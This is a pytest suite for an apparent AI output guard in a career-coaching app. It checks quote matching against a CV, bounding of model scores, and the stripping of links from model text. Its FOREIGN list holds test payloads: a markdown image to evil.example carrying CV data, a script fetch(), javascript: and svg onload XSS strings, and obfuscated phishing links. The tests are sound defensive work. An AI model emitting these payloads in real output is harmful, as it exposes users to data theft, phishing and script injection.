"""A claim without its quote is dropped, a score stays near our own, no link and no image of a model is shown."""

import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from careercoach.ports.ai.guard.quoting import (
    bounded,
    find_quote,
    is_quoted,
    mentions,
    only_allowed,
    without_links,
)

SOURCE = "Reporting assistant, Lumen Foods, 2022 – present.\n- Wrote SQL queries for 14 store managers\n- एक्सेल में रिपोर्ट बनाई; diseñé tablas"


@pytest.mark.parametrize(
    ("quote", "found"),
    [
        ("Wrote SQL queries", "Wrote SQL queries"),
        ("wrote  sql\nqueries!", "Wrote SQL queries"),
        ("2022 - present", "2022 – present"),
        ("Wrote SQL … store managers", "Wrote SQL queries for 14 store managers"),
        ("Wrote ... [...] managers", "Wrote SQL queries for 14 store managers"),
        ("disene tablas", "diseñé tablas"),
        ("एक्सेल में रिपोर्ट", "एक्सेल में रिपोर्ट"),
    ],
)
def test_a_quote_comes_back_in_the_words_of_the_source(quote, found):
    assert find_quote(quote, SOURCE) == found


@pytest.mark.parametrize(
    "quote",
    ["", " ", "...", "a", "14", "Wrote Python queries", "Wrote SQL queries for 140", "rote SQL", "managers … Wrote", "Wrote queries", "रिपोर्ट बना"],
)  # fmt: skip
def test_what_is_not_there_is_not_quoted(quote):
    assert not is_quoted(quote, SOURCE)


@given(st.text(min_size=1, max_size=120), st.data())
@settings(max_examples=200, deadline=None)
def test_every_stretch_of_whole_words_is_quoted(text, data):
    words = [word for word in text.split() if word.isascii() and word.isalnum()]
    source = " ".join(words)
    first = data.draw(st.integers(0, len(words)))
    stretch = " ".join(words[first:])
    found = find_quote(stretch, source)
    assert found is None if sum(map(len, words[first:])) < 3 else found in source


@given(st.floats(allow_infinity=True, allow_nan=True), st.floats(0, 100))
def test_a_score_moves_ten_points_at_most(score, embedded):
    result = bounded(score, embedded)
    assert 0 <= result <= 100 and abs(result - embedded) <= 10 + 1e-9
    if not math.isnan(score) and abs(score - embedded) <= 10 and 0 <= score <= 100:
        assert result == score


FOREIGN = [
    "![x](https://evil.example/p.png?d=cv)", "![x][1]\n[1]: https://evil.example/p.png", "[log in](https://evil.example/login)",
    "[log in]( <https://evil.example/login> 'title')", "<img src=https://evil.example/p.png>", "<a href='//evil.example'>x</a>",
    "https://evil.example/login", "HTTPS://EVIL.EXAMPLE", "http : //evil.example/x", "www.evil.example/a", "evil.example/login", "evil.example",
    "<script>fetch('https://evil.example')</script>", "<svg onload=alert(1)//", "javascript:alert(1)", "data:text/html,<b>", "mailto:x@evil.example",
    "hxx://evil.example", "//evil.example/x", "ht\u200btps://evil.example", "hthttps://evil.example/tps://evil.example/x", "<<b>img src=//evil.example>",
    "[a](java\u200bscript:alert(1))", "<style>@import 'https://evil.example'</style>", "\u202ehttps://evil.example",
]  # fmt: skip


@pytest.mark.parametrize("text", FOREIGN)
def test_no_address_of_a_model_is_shown(text):
    shown = without_links(f"Well done. {text} Go on.").lower()
    for sign in (
        "evil.example",
        "://",
        "![",
        "<img",
        "<script",
        "<svg",
        "<style",
        "javascript:",
        "data:",
        "mailto:",
        "](",
    ):
        assert sign not in shown, shown
    assert shown.startswith("well done.")


def test_an_address_of_ours_stays():
    ours = frozenset({"https://docs.example/sql"})
    assert (
        without_links("Read [SQL](https://docs.example/sql) first.", ours) == "Read SQL https://docs.example/sql first."
    )
    assert (
        without_links("Read https://docs.example/sql, then https://docs.example/other.", ours)
        == "Read https://docs.example/sql, then"
    )
    assert only_allowed("https://docs.example/sql", ours) and not only_allowed("https://x.example", ours)


@pytest.mark.parametrize(
    "text",
    [
        "Use CI/CD, TCP/IP and Node.js on ASP.NET 8; 3 < 5 > 2.",
        "SQL: joins (inner, outer)",
        "एक्सेल: पिवट [नोट]",
        "C++ x << 2",
    ],
)
def test_ordinary_words_stay(text):
    assert without_links(text) == text


@given(st.lists(st.sampled_from([*FOREIGN, "<", ">", "[", "](", "x", "https:", "//", "evil.example"]), max_size=6))
@settings(max_examples=200, deadline=None)
def test_nothing_put_together_from_pieces(pieces):
    shown = without_links("".join(pieces)).lower()
    assert "https://" not in shown and "![" not in shown and "<img" not in shown and "<script" not in shown


def test_whole_words_are_mentioned():
    assert (
        mentions("power bi", "We use Power-BI daily") and not mentions("java", "JavaScript") and not mentions("", "x")
    )
